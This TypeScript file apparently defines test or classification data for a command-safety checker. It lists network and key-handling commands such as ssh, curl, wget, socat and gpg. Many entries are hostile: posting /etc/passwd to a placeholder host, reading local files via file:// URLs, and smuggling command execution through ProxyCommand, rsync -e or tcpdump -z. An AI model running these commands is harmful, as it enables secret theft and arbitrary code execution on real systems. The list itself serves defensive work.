import { table } from '../machine.ts';

/** Programs that talk to other machines, and to keys. `program: command`. */
export const NETWORK = table(String.raw`
    gpg-connect-agent: gpg-connect-agent '/run x' /bye
    gpgtar: gpgtar --gpg=id x
    gpgsm: gpgsm --agent-program=id
    ssh: ssh host id
    ssh: ssh host rm -rf x
    ssh: ssh localhost
    ssh: ssh -i key user@host 'id'
    ssh: ssh -oProxyCommand=id -V
    ssh: ssh -o "PermitLocalCommand yes" -o LocalCommand=id h
    ssh: ssh -J x y
    ssh: ssh -p 22 -oProxyCommand=id x
    ssh: ssh -4oProxyCommand=id x
    ssh: ssh -tt host
    ssh: ssh -L 1:a:2 x
    ssh,echo: echo id | ssh localhost
    sftp,echo: echo '!id' | sftp host
    sftp: sftp host
    ssh-copy-id: ssh-copy-id x
    ssh-argv0: ssh-argv0 x
    scp: scp -oProxyCommand=id a b:
    scp: scp -P 22 -S ./x a b:
    socat: socat - FILE:/etc/passwd
    socat: socat - TCP:x:1
    socat: socat exec:id -
    socat: socat -u FILE:/x,create OPEN:y
    curl: curl file:///etc/passwd
    curl: curl FILE:///etc/passwd
    curl: curl --url file:///etc/passwd
    curl: curl -d @/etc/passwd http://x
    curl: curl --data-binary @x http://x
    curl: curl --data-binary=@x http://x
    curl: curl -F f=@/etc/passwd http://x
    curl: curl -F 'f=</etc/passwd' http://x
    curl: curl --data-urlencode a@/etc/passwd http://x
    curl: curl --json @x http://x
    curl: curl --unix-socket /var/run/docker.sock http://x
    curl: curl --abstract-unix-socket x http://y
    curl: curl -T x http://y
    curl: curl -sSLo x http://y
    curl: curl -sSfLO http://y
    curl: curl -OJ http://y
    curl: curl --remote-n http://y
    curl: curl --outp x http://y
    curl: curl -c jar http://y
    curl: curl -D x http://y
    curl: curl -K-
    curl: curl -sK x
    curl: curl --conf x
    curl: curl -H @x http://y
    curl: curl --proto-default file /etc/passwd
    curl: curl -w @x http://y
    curl: curl --trace - http://y
    curl: curl --etag-save x http://y
    curl: curl --key pkcs11:x http://y
    curl: curl --engine ./x.so http://y
    curl: curl --netrc-file x http://y
    wget: wget --use-askp=id http://x/
    wget: wget -O/tmp/x http://x/
    wget: wget -P /usr/bin http://x/
    wget: wget --post-file=/etc/passwd http://x/
    wget: wget --body-f=/etc/passwd http://x/
    wget: wget -ihttp.txt
    wget: wget --input=x
    wget: wget -q -i -
    wget: wget --config=x http://x
    wget: wget -a log http://x
    wget: wget -o log http://x
    wget: wget --execute output_document=/x http://x
    wget: wget -eoutput_document=/x http://x
    wget: wget --load-cookies=x --save-cookies=y http://x
    wget: wget --output-d=x http://x
    wget: wget -nvO x http://y
    rsync: rsync -e 'id' a h:b
    rsync: rsync -ave id a h:b
    rsync: rsync --rsh id a h:b
    rsync: rsync --rs=id a h:b
    rsync: rsync --rsync-pa=id a h:b
    rsync: rsync -M--x a b
    ip: ip netns e x id
    ip: ip net exe x id
    ip: ip vrf exec x id
    ip: ip vrf ex x id
    ip: ip -batch x
    ip: ip -bat x
    ip: ip -force -batch x
    openssl: openssl
    openssl: openssl dgst --engine ./x.so
    openssl: openssl dgst -engine ./x.so
    openssl: openssl engine ./x.so
    openssl: openssl req -config x
    openssl: openssl req --config x
    openssl: openssl rand -out x 1
    openssl: openssl rand --out x 1
    openssl: openssl s_server -accept 1
    openssl: openssl dgst -provider x -provider-path .
    openssl: openssl genrsa -out /etc/x
    openssl: openssl req -keyout x
    openssl: openssl enc -pass file:/etc/passwd
    gpg: gpg --photo-viewer=id --list-keys
    gpg: gpg --agent-program=id -d x
    gpg: gpg -o x -d y
    gpg: gpg --output=x -d y
    gpg: gpg --options x
    gpg: gpg --homedir . -d y
    gpg: gpg --log-file=x -d y
    gpg: gpg --logger-file=x -d y
    nmap: nmap --script=x y
    nmap: nmap --interactive
    nmap: nmap --scr x y
    nmap: nmap -oN x y
    tcpdump: tcpdump -i lo -z id -w x -G 1
    tcpdump: tcpdump -nzid
    tcpdump: tcpdump -w x
    check_by_ssh: check_by_ssh -o 'ProxyCommand id' -H x -C y
    nice,ssh: nice ssh localhost
    curl: curl -o- -o x http://y http://z
    curl: curl --output-dir /x -O http://y
    curl: curl -fo /etc/x http://y
    curl: curl --outpu=x http://y
    curl: curl --upload-f x http://y
    curl: curl -sT x http://y
    curl: curl -b x -c y http://z
    curl: curl -LOk http://y
    curl: curl --create-dirs -o a/b http://y
    curl: curl --trace-asc x http://y
    curl: curl --stderr x http://y
    curl: curl --libcurl x http://y
    curl: curl --hsts x http://y
    curl: curl --alt-svc x http://y
    curl: curl --etag-s x http://y
    curl: curl -: -o x http://y
    curl: curl --next -o x http://y
    curl: curl '-o' x http://y
    curl: curl -wx -ox http://y
    curl: curl --dump-h x http://y
    curl: curl --cookie-j x http://y
    curl: curl -X POST --data-raw x -o y http://z
    curl: curl http://a -o b
    wget: wget http://x -O y
    wget: wget -nc -O y http://x
    wget: wget --output-document y http://x
    wget: wget --output-do=y http://x
    wget: wget -bqO y http://x
    wget: wget -r -P x http://y
    wget: wget --directory-pre=x http://y
    wget: wget --append=x http://y
    wget: wget --rejected-log=x http://y
    wget: wget --warc-file=x http://y
    wget: wget --hsts-file=x http://y
    wget: wget -i-
    wget: wget --input-f x
    wget: wget --base=x -i y
    wget: wget -F -i y
    tcpdump: tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z id
    tcpdump: tcpdump --postrotate-command id -w x
    nmap: nmap --script=http-vuln x
    nmap: nmap --script x.nse y
    openssl: openssl req -engine ./x.so
    openssl: openssl rsa -in x -engine y
    openssl: openssl s_server -www
    openssl: openssl enc -in x -out y
    gpg: gpg --yes -o x -d y
    gpg: gpg --photo-viewer id --show-photos
    gpg: gpg --exec-p=x y
    openssl: openssl list -provider-path . -provider x
`);
